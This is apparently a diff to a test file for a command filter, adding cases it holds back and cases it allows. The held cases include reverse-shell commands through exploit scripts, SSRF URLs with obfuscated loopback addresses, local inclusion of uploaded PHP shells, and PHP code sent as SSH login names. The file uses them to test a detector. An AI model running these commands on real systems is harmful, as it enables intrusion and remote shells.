@@ -9,7 +9,15 @@ got past the guards. The commands here are variants written for the tests, not t
   idle and bounce scans, paranoid or sneaky timing), whatever it scans;
 - nmap's interactive mode, gone since 2010: only typed now as the shell escape of a setuid nmap;
 - code as a login name (``ssh '<?php …?>'@host``): written to the server's authentication log for a file
-  inclusion to run (log poisoning).
+  inclusion to run (log poisoning);
+- after a second sample (mzfr/vulnhub-writeups, 44 of 51 held back at first sight, FP 1 of 17) was looked
+  at: a URL handed to a server whose host is an address spelled to pass a filter (one number, hex, octal,
+  IPv4-mapped IPv6: a server-side request); a parameter named for a file or path given the absolute path
+  of code (``?ajax_path=/home/u/shell.php``: a local file inclusion of an uploaded shell); a shell command
+  line as the value of a script's code option (``php exploit.php -c "nc -e /bin/sh IP 4444"``), which is
+  judged and asked (``manage.py shell -c CODE`` is Python, and stays allowed);
+- (wrongly held) ``find / -name '*-*'``: a name test of wildcards and punctuation picks every file, not a
+  kind of secret.
 """
 
 from __future__ import annotations
@@ -35,6 +43,19 @@ HELD = {
         "nmap --interactive",
         "sudo /usr/bin/nmap --interactive",
     ],
+    "address spelled to pass a filter": [
+        "curl 'http://shop.example/fetch?url=http://0x7f000001:8080/admin'",
+        "curl -d 'img=http://3232235777/' http://app.example/preview",
+        "http http://app.example/proxy url==http://0177.0.0.1:6379/",
+    ],
+    "code at an absolute path given to a file parameter": [
+        "curl 'http://blog.example/wp-admin/admin-ajax.php?tpl_file=/var/www/uploads/x.php'",
+        "curl 'http://app.example/index.php?langpath=/tmp/sess.phtml'",
+    ],
+    "shell command as a script's code option": [
+        "python3 cve.py -u http://app.example/ -c 'bash -c \"sh -i >& /dev/tcp/203.0.113.9/91 0>&1\"'",
+        "ruby rce.rb --command 'nc 203.0.113.9 4444 -e /bin/sh' http://app.example/",
+    ],
     "code as a login name": [
         "ssh -l '<?php passthru($_REQUEST[\"x\"]); ?>' 192.0.2.10",
         "sshpass -p x ssh '<?=`$_GET[1]`?>'@192.0.2.10",
@@ -52,4 +73,9 @@ ALLOWED = [
     "ssh deploy@build.example.com 'systemctl status app'",
     "ssh -l git github.com",
     "ftp ftp.example.com",
+    "find / -type f -name '*-*' 2>/dev/null",
+    "find . -name '*_*' -newer setup.py",
+    "python manage.py shell -c 'from app.models import User; print(User.objects.count())'",
+    "curl 'https://api.example.com/hooks?callback=https://hooks.example.com/build'",
+    "curl 'https://files.example.com/get?path=/reports/2024.pdf'",
 ]
